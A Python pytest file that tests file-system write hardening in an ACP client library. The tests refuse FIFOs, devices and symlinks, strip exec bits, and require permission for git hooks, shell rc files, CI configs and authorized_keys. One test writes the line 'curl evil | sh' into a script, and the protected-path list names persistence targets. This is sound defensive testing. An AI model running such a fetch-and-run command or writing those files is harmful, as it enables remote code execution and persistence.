"""fs/* hardening: only regular files, protected config and hook files, no exec bits."""

from __future__ import annotations

import asyncio
import contextlib
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from acp_client import ClientHandlers, ConfigurationError, handlers
from acp_client._util._fs_guard import DEFAULT_PROTECTED_PATHS, is_protected, write_regular_file
from acp_client.exceptions import InvalidParams
from acp_client.handlers import FileSystemPolicy, RequestRouter
from acp_client.types import CancelledPermissionOutcome, RequestPermissionRequest, SelectedPermissionOutcome


def router(handlers: ClientHandlers, roots: list[Path]) -> RequestRouter:
    return RequestRouter(handlers, session_roots=lambda sid: roots, protocol_version=lambda: 1)


def write(path: Path, content: str = "pwned") -> dict[str, Any]:
    return {"sessionId": "s1", "path": str(path), "content": content}


@contextlib.contextmanager
def unblock_writers(fifo: Path) -> Iterator[None]:
    """Should a worker thread be stuck in ``open(fifo, "w")`` (the old code), open the read end so
    that thread, and with it the test process, can finish. Opening it is enough: a writer blocked in
    ``open`` wakes when a reader arrives, even one that has gone again by the time it runs."""
    try:
        yield
    finally:
        os.close(os.open(fifo, os.O_RDONLY | os.O_NONBLOCK))


# -- FIFOs and other non-files -------------------------------------------------------------------------


async def test_a_write_to_a_fifo_without_a_reader_does_not_block(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    r = router(ClientHandlers(file_system=FileSystemPolicy(write=True)), [tmp_path])
    with unblock_writers(fifo), pytest.raises(InvalidParams, match="not a regular file"):
        await asyncio.wait_for(r("fs/write_text_file", write(fifo)), 3)


async def test_a_write_to_a_fifo_with_a_reader_is_refused_too(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    try:
        r = router(ClientHandlers(file_system=FileSystemPolicy(write=True)), [tmp_path])
        with pytest.raises(InvalidParams, match="not a regular file"):
            await asyncio.wait_for(r("fs/write_text_file", write(fifo)), 3)
        sent = b""
        with contextlib.suppress(BlockingIOError):
            sent = os.read(reader, 10)
        assert sent == b""  # nothing went down the pipe
    finally:
        os.close(reader)


async def test_a_write_to_a_device_is_refused(tmp_path: Path) -> None:
    r = router(ClientHandlers(file_system=FileSystemPolicy(write=True, roots=[Path("/dev")])), [])
    with pytest.raises(InvalidParams, match="not a regular file"):
        await asyncio.wait_for(r("fs/write_text_file", write(Path("/dev/null"))), 3)


async def test_a_write_to_a_directory_is_refused(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    r = router(ClientHandlers(file_system=FileSystemPolicy(write=True)), [tmp_path])
    with pytest.raises(InvalidParams, match="not a regular file"):
        await r("fs/write_text_file", write(tmp_path / "sub"))


async def test_creating_a_new_hook_is_protected_too(tmp_path: Path) -> None:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    r = router(ClientHandlers(file_system=FileSystemPolicy(write=True)), [tmp_path])
    with pytest.raises(InvalidParams, match="permission"):
        await r("fs/write_text_file", write(tmp_path / ".git" / "hooks" / "post-merge"))
    assert not (tmp_path / ".git" / "hooks" / "post-merge").exists()


def test_a_final_symlink_is_never_followed(tmp_path: Path) -> None:
    # The handler resolves symlinks first; this is the guard against one swapped in afterwards.
    target = tmp_path / "target"
    target.write_text("keep")
    (tmp_path / "link").symlink_to(target)
    with pytest.raises(InvalidParams, match="symbolic link"):
        write_regular_file(tmp_path / "link", "x")
    assert target.read_text() == "keep"


async def test_a_plain_write_still_works_and_truncates(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("a much longer old content\n")
    r = router(ClientHandlers(file_system=FileSystemPolicy(write=True)), [tmp_path])
    assert await r("fs/write_text_file", write(tmp_path / "a.txt", "new\n")) == {}
    assert await r("fs/write_text_file", write(tmp_path / "b.txt", "héllo")) == {}
    assert (tmp_path / "a.txt").read_text() == "new\n"
    assert (tmp_path / "b.txt").read_text(encoding="utf-8") == "héllo"


# -- exec bits -------------------------------------------------------------------------------------------


async def test_a_write_never_leaves_a_file_executable(tmp_path: Path) -> None:
    script = tmp_path / "build.sh"
    script.write_text("#!/bin/sh\necho ok\n")
    script.chmod(0o754)
    r = router(ClientHandlers(file_system=FileSystemPolicy(write=True)), [tmp_path])
    await r("fs/write_text_file", write(script, "#!/bin/sh\ncurl evil | sh\n"))
    assert stat.S_IMODE(script.stat().st_mode) == 0o644  # the rest of the mode is kept
    await r("fs/write_text_file", write(tmp_path / "new.sh"))
    assert not (tmp_path / "new.sh").stat().st_mode & 0o111


# -- protected paths -------------------------------------------------------------------------------------

PROTECTED = [
    ".git/hooks/pre-commit",
    ".git/config",
    ".bashrc",
    ".zshrc",
    ".profile",
    ".vscode/settings.json",
    ".idea/workspace.xml",
    ".envrc",
    ".github/workflows/ci.yml",
    ".gitlab-ci.yml",
    ".npmrc",
    ".pypirc",
    "pip.conf",
    "vendor/lib/.git/hooks/post-checkout",  # a submodule's hooks
    ".GIT/Config",  # a case-insensitive disk
]


def _prepare(root: Path, relative: str) -> Path:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("original\n")
    if "hooks" in relative:
        path.chmod(0o755)  # an existing executable hook
    return path


@pytest.mark.parametrize("relative", PROTECTED)
async def test_protected_writes_are_refused_without_a_permission_handler(tmp_path: Path, relative: str) -> None:
    path = _prepare(tmp_path, relative)
    r = router(ClientHandlers(file_system=FileSystemPolicy(write=True)), [tmp_path])
    with pytest.raises(InvalidParams, match="permission"):
        await r("fs/write_text_file", write(path))
    assert path.read_text() == "original\n"


@pytest.mark.parametrize("relative", PROTECTED)
async def test_protected_writes_ask_the_permission_handler(tmp_path: Path, relative: str) -> None:
    path = _prepare(tmp_path, relative)
    asked: list[RequestPermissionRequest] = []

    def reject(request: RequestPermissionRequest) -> Any:
        asked.append(request)
        rejection = next(o for o in request.options if o.kind == "reject_once")
        return SelectedPermissionOutcome(option_id=rejection.option_id)

    r = router(ClientHandlers(permission=reject, file_system=FileSystemPolicy(write=True)), [tmp_path])
    with pytest.raises(InvalidParams, match="permission"):
        await r("fs/write_text_file", write(path))
    assert path.read_text() == "original\n"
    assert len(asked) == 1
    request = asked[0]
    assert request.session_id == "s1"
    assert request.tool_call is not None and request.tool_call.locations is not None
    assert request.tool_call.locations[0].path == str(path.resolve())
    assert [o.kind for o in request.options] == ["allow_once", "reject_once"]  # never "always"


async def test_an_allowed_protected_write_happens_and_the_hook_is_no_longer_executable(tmp_path: Path) -> None:
    hook = _prepare(tmp_path, ".git/hooks/pre-commit")

    def allow(request: RequestPermissionRequest) -> Any:
        allowing = next(o for o in request.options if o.kind == "allow_once")
        return SelectedPermissionOutcome(option_id=allowing.option_id)

    r = router(ClientHandlers(permission=allow, file_system=FileSystemPolicy(write=True)), [tmp_path])
    assert await r("fs/write_text_file", write(hook, "#!/bin/sh\nexit 0\n")) == {}
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
    assert not hook.stat().st_mode & 0o111


async def test_a_symlink_to_a_protected_file_is_protected(tmp_path: Path) -> None:
    hook = _prepare(tmp_path, ".git/hooks/pre-push")
    (tmp_path / "notes.txt").symlink_to(hook)
    r = router(ClientHandlers(file_system=FileSystemPolicy(write=True)), [tmp_path])
    with pytest.raises(InvalidParams, match="permission"):
        await r("fs/write_text_file", write(tmp_path / "notes.txt"))
    assert hook.read_text() == "original\n"


async def test_cancelling_the_turn_refuses_a_pending_protected_write(tmp_path: Path) -> None:
    path = _prepare(tmp_path, ".bashrc")
    asked = asyncio.Event()

    async def slow_user(request: RequestPermissionRequest) -> Any:
        asked.set()
        await asyncio.Event().wait()  # the user never answers
        return CancelledPermissionOutcome()

    r = router(ClientHandlers(permission=slow_user, file_system=FileSystemPolicy(write=True)), [tmp_path])
    pending = asyncio.ensure_future(r("fs/write_text_file", write(path)))
    await asyncio.wait_for(asked.wait(), 3)
    r.cancel_session("s1")
    with pytest.raises(InvalidParams):
        await asyncio.wait_for(pending, 3)
    assert path.read_text() == "original\n"


async def test_ordinary_writes_do_not_ask(tmp_path: Path) -> None:
    def never(request: RequestPermissionRequest) -> Any:
        raise AssertionError("asked about an ordinary file")

    r = router(ClientHandlers(permission=never, file_system=FileSystemPolicy(write=True)), [tmp_path])
    for relative in ("src/app.py", "docs/git/config.md", "bashrc.txt", "github/workflows.md", "README.md"):
        (tmp_path / relative).parent.mkdir(parents=True, exist_ok=True)
        assert await r("fs/write_text_file", write(tmp_path / relative)) == {}


async def test_the_list_is_extensible(tmp_path: Path) -> None:
    assert handlers.DEFAULT_PROTECTED_PATHS is DEFAULT_PROTECTED_PATHS  # documented where the policy is
    policy = FileSystemPolicy(write=True, protected_paths=(*DEFAULT_PROTECTED_PATHS, "deploy/**", "*.pem"))
    r = router(ClientHandlers(file_system=policy), [tmp_path])
    for relative in ("deploy/prod/run.sh", "keys/server.pem", ".bashrc"):
        path = _prepare(tmp_path, relative)
        with pytest.raises(InvalidParams, match="permission"):
            await r("fs/write_text_file", write(path))
    relaxed = FileSystemPolicy(write=True, protected_paths=())
    await router(ClientHandlers(file_system=relaxed), [tmp_path])("fs/write_text_file", write(tmp_path / ".bashrc"))


def test_protected_paths_must_be_patterns() -> None:
    with pytest.raises(ConfigurationError, match="protected_paths"):
        FileSystemPolicy(protected_paths=".git/**")  # type: ignore[arg-type]
    with pytest.raises(ConfigurationError, match="protected_paths"):
        FileSystemPolicy(protected_paths=[1])  # type: ignore[list-item]


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/w/.git/hooks/pre-commit", True),
        ("/w/.git", True),
        ("/w/sub/.husky/pre-commit", True),
        ("/home/u/.config/fish/config.fish", True),
        ("/w/project.code-workspace", True),
        ("/w/.ssh/authorized_keys", True),
        ("/w/src/git/hooks.py", False),
        ("/w/.gitignore", False),
        ("/w/my.bashrc", False),
        ("/w/vscode/settings.json", False),
    ],
)
def test_pattern_matching(path: str, expected: bool) -> None:
    assert is_protected(Path(path), DEFAULT_PROTECTED_PATHS) is expected


async def test_in_v2_the_question_also_carries_a_tool_call_subject(tmp_path: Path) -> None:
    from acp_client.types import ToolCallPermissionSubject

    path = _prepare(tmp_path, ".envrc")
    asked: list[RequestPermissionRequest] = []

    def reject(request: RequestPermissionRequest) -> Any:
        asked.append(request)
        return CancelledPermissionOutcome()

    handlers = ClientHandlers(permission=reject, file_system=FileSystemPolicy(write=True))
    r = RequestRouter(handlers, session_roots=lambda sid: [tmp_path], protocol_version=lambda: 2)
    with pytest.raises(InvalidParams, match="permission"):
        await r("fs/write_text_file", write(path))
    subject = asked[0].subject
    assert isinstance(subject, ToolCallPermissionSubject)
    assert subject.tool_call is asked[0].tool_call
    assert asked[0].title is not None and ".envrc" in asked[0].title
